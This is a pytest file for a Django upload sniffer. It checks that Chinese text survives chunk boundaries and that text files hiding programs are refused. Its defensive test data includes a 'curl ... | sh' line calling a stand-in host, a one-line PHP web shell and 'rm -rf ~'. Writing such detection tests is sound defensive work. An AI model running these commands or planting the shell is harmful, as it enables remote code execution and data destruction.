"""Content sniffing of uploads: text across chunk boundaries, programs hidden in a text file's tail."""

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from core.attachments import MAX_FILES_PER_REQUEST, files_count_error, sniff_type


def _file(content: bytes, name: str = "说明.txt") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type="text/plain")


def _chinese_text_cut_at(offset: int, size: int = 20_000) -> bytes:
    """UTF-8 Chinese text of ``size``-ish bytes whose byte 8192 falls ``offset`` bytes into a character."""
    lead = b"a" * offset  # shifts the three-byte characters against the 8 KB boundary
    body = ("关于做好春节期间值班工作的通知。" * (size // 48)).encode()
    return lead + body


@pytest.mark.parametrize("offset", [0, 1, 2])
def test_chinese_text_over_8_kb_is_text_wherever_the_boundary_falls(offset):
    content = _chinese_text_cut_at(offset)
    assert len(content) > 8192
    assert sniff_type(_file(content)) == "text/plain"


@pytest.mark.parametrize("offset", [0, 1, 2])
def test_chinese_text_over_the_chunk_size_is_text(offset):
    """Whole files are decoded in 64 KB chunks; a character split between two chunks is joined."""
    content = _chinese_text_cut_at(offset, size=200_000)
    assert sniff_type(_file(content)) == "text/plain"


def test_short_text_and_empty_lines_are_text():
    assert sniff_type(_file("请各处室于周五前报送。\r\n\tThanks\n".encode())) == "text/plain"


@pytest.mark.parametrize(
    "tail",
    [
        b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56,  # an ELF executable
        b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00PE\x00\x00",  # a Windows program
        b"\xcf\xfa\xed\xfe\x07\x00\x00\x01",  # a Mach-O program
        b"\n#!/bin/sh\ncurl http://x.example/a | sh\n",  # a script
        b"\n  #! /usr/bin/env python\nimport os\n",
        b"\n<?php system($_GET['c']); ?>\n",
        b"\xff\xfe\x00binary",  # not UTF-8 at all
    ],
)
def test_a_text_file_whose_tail_is_a_program_is_refused(tail):
    content = _chinese_text_cut_at(1, size=30_000) + tail
    assert sniff_type(_file(content)) is None


def test_a_program_split_by_the_chunk_boundary_is_found():
    content = b"a" * (64 * 1024 - 2) + b"\n#!/bin/sh\nid\n"
    assert sniff_type(_file(content)) is None


def test_a_script_at_the_start_is_refused():
    assert sniff_type(_file(b"#!/bin/bash\nrm -rf ~\n", name="a.txt")) is None


def test_a_truncated_character_at_the_very_end_is_refused():
    assert sniff_type(_file("通知".encode()[:-1])) is None


def test_mentioning_a_shebang_inside_a_line_is_still_text():
    assert sniff_type(_file("脚本以 #!/bin/sh 开头，这里只是说明。\n".encode())) == "text/plain"


def test_the_sniffer_leaves_the_file_at_its_start():
    upload = _file(_chinese_text_cut_at(2))
    sniff_type(upload)
    assert upload.read(3) == b"aa\xe5"


def test_the_file_count_cap():
    assert MAX_FILES_PER_REQUEST == 20
    assert files_count_error(20) is None
    assert "20" in (files_count_error(21) or "")


# --- Serving: Django itself, or nginx after Django's check (ATTACHMENT_ACCEL_REDIRECT) --------------


@pytest.fixture
def stored(db, settings, tmp_path, department):
    from core.attachments import attachment_store

    settings.MEDIA_ROOT = tmp_path
    upload = _file("请各处室于周五前报送。".encode(), "通知.txt")
    return attachment_store(owner=department, upload=upload, uploaded_by=None)


def test_by_default_django_sends_the_file_itself(stored, settings, user):
    from core.attachments import attachment_response

    assert settings.ATTACHMENT_ACCEL_REDIRECT == ""
    response = attachment_response(stored, user=user)
    assert b"".join(response.streaming_content) == "请各处室于周五前报送。".encode()
    assert "X-Accel-Redirect" not in response
    assert response["Content-Disposition"].startswith("attachment;")


def test_behind_nginx_the_file_is_handed_to_the_internal_location(stored, settings, user):
    from core.attachments import attachment_response

    settings.ATTACHMENT_ACCEL_REDIRECT = "/protected-media/"
    response = attachment_response(stored, user=user)
    assert response["X-Accel-Redirect"] == f"/protected-media/{stored.file.name}"
    assert stored.file.name.startswith("attachments/")  # the server's name, not the uploader's
    assert response.content == b""  # nginx sends the bytes
    assert response["Content-Type"] == "text/plain"
    assert response["Content-Disposition"] == "attachment; filename*=utf-8''%E9%80%9A%E7%9F%A5.txt"
    assert response["X-Content-Type-Options"] == "nosniff"
